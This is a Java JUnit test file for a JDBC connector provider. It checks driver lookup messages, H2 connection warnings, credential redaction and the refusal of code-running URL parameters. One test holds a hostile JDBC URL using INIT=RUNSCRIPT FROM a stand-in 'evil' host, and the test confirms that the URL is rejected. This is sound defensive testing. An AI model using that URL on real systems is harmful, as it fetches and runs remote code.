package io.millrace.connector.jdbc.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.millrace.connector.api.CatalogException;
import io.millrace.connector.api.ConnectionCheck;
import io.millrace.connector.api.ConnectionCheck.Status;
import io.millrace.connector.api.ConnectionSettings;
import java.sql.SQLException;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class JdbcConnectorProviderTest {
    private final DriverLookup classPath =
            new DriverLookup(new ClassPathDrivers(JdbcConnectorProviderTest.class.getClassLoader()));
    private final JdbcConnectorProvider provider = new JdbcConnectorProvider(classPath);

    @Test
    void aUrlNoDriverAcceptsFailsTheCheckSayingWhatToDeployAndWhatIsThere() {
        ConnectionCheck check =
                provider.testConnection(settings("jdbc:sqlserver://db:1433;databaseName=sales;password=x"));

        assertThat(check.successful()).isFalse();
        ConnectionCheck.Step step = check.steps().get(0);
        assertThat(step.name()).isEqualTo("driver");
        assertThat(step.message())
                .contains("No deployed JDBC driver accepts the URL jdbc:sqlserver://db:1433")
                .contains("deploy/")
                .contains("org.h2.Driver")
                .doesNotContain("password=x");
        assertThat(step.fix()).hasValueSatisfying(fix -> assertThat(fix).contains("deploy/"));
    }

    @Test
    void noDriversAtAllSaysNoneIsDeployed() {
        DriverLookup none = new DriverLookup(List::of);

        assertThatThrownBy(() -> none.find("jdbc:h2:mem:x", Optional.empty()))
                .isInstanceOf(SQLException.class)
                .hasMessageContaining("none is deployed")
                .satisfies(e -> assertThat(((SQLException) e).getSQLState()).isEqualTo(DriverLookup.NO_DRIVER_STATE));
    }

    @Test
    void aDriverClassChoosesAmongTheDeclaredDriversOnly() throws Exception {
        assertThat(classPath
                        .find("jdbc:h2:mem:x", Optional.of("org.h2.Driver"))
                        .getClass()
                        .getName())
                .isEqualTo("org.h2.Driver");
        assertThatThrownBy(() -> classPath.find("jdbc:h2:mem:x", Optional.of("java.lang.Thread")))
                .hasMessageContaining("No deployed bundle provides the JDBC driver java.lang.Thread");
    }

    @Test
    void anH2UrlConnectsAndTheCheckWarnsThatDeletesAreNotSeen() {
        ConnectionCheck check = provider.testConnection(settings("jdbc:h2:mem:provider_test"));

        assertThat(check.successful()).isTrue();
        assertThat(check.steps())
                .extracting(ConnectionCheck.Step::status)
                .containsExactly(Status.PASSED, Status.WARNING);
        assertThat(check.steps().get(1).message()).contains("deleted", "not seen");
    }

    @Test
    void urlParametersThatRunCodeAreRefusedBeforeConnecting() {
        assertThatThrownBy(() -> provider.catalog()
                        .orElseThrow()
                        .tables(settings("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'")))
                .isInstanceOf(CatalogException.class)
                .hasMessageContaining("INIT is not allowed");
        assertThat(JdbcUrls.problem("jdbc:postgresql://h/db?sslmode=require&socketFactory=x.Y"))
                .isPresent();
        assertThat(JdbcUrls.problem("jdbc:postgresql://h/db?sslmode=require")).isEmpty();
        assertThat(JdbcUrls.problem("postgresql://h/db"))
                .hasValueSatisfying(problem -> assertThat(problem).contains("jdbc:"));
    }

    @Test
    void urlsInMessagesLoseTheirParametersAndCredentials() {
        assertThat(JdbcUrls.withoutParameters("jdbc:mysql://admin:secret@db:3306/sales?useSSL=true"))
                .isEqualTo("jdbc:mysql://****@db:3306/sales");
    }

    private static ConnectionSettings settings(String url) {
        return new ConnectionSettings(Map.of("url", url, "user", "sa"), Map.of());
    }
}
